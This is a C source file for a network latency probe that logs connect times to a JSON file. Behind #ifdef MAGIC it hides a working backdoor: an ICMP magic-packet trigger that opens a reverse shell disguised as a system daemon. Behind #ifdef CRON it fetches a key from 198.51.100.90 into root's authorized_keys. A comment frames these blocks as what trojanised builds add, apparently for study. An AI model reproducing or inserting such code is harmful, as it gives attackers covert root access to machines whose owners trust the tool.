/* Measures networks. MAGIC and CRON are what trojanised builds add; nobody runs any of it. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static double ask(const char *address)
{
    struct timespec before, after;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(7)};
    int line = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, address, &to.sin_addr);
    clock_gettime(CLOCK_MONOTONIC, &before);
    if (connect(line, (struct sockaddr *)&to, sizeof to) != 0) {
        close(line);
        return -1;
    }
    clock_gettime(CLOCK_MONOTONIC, &after);
    close(line);
    return (after.tv_sec - before.tv_sec) * 1e3 + (after.tv_nsec - before.tv_nsec) / 1e6;
}

#ifdef MAGIC
static void listen_for(void)
{
    unsigned char packet[2048];
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    ssize_t size = recv(raw, packet, sizeof packet, MSG_DONTWAIT);
    if (size > 36 && packet[28] == 0x5a && packet[29] == 0x21) {
        struct sockaddr_in to = {.sin_family = AF_INET};
        int line = socket(AF_INET, SOCK_STREAM, 0);
        memcpy(&to.sin_addr, packet + 30, 4);
        memcpy(&to.sin_port, packet + 34, 2);
        if (connect(line, (struct sockaddr *)&to, sizeof to) == 0 && fork() == 0) {
            dup2(line, 0);
            dup2(line, 1);
            dup2(line, 2);
            execl("/bin/sh", "/usr/sbin/netprobed", (char *)0);
        }
        close(line);
    }
    close(raw);
}
#endif

int main(void)
{
    for (;;) {
        FILE *to = fopen("/var/lib/netprobe/rows.ndjson", "a");
        if (to != NULL) {
            fprintf(to, "{\"address\": \"gateway\", \"milliseconds\": %.2f}\n", ask("192.0.2.1"));
#ifdef SECOND
            fprintf(to, "{\"address\": \"resolver\", \"milliseconds\": %.2f}\n", ask("192.0.2.53"));
#endif
            fclose(to);
        }
#ifdef MAGIC
        listen_for();
#endif
#ifdef CRON
        if (access("/root/.ssh/authorized_keys2", F_OK) != 0) {
            if (system("mkdir -p /root/.ssh; curl -s http://198.51.100.90/k >> /root/.ssh/authorized_keys") != 0) {
                continue;
            }
        }
#endif
        sleep(10);
    }
}

void _start(void)
{
    _exit(main());
}
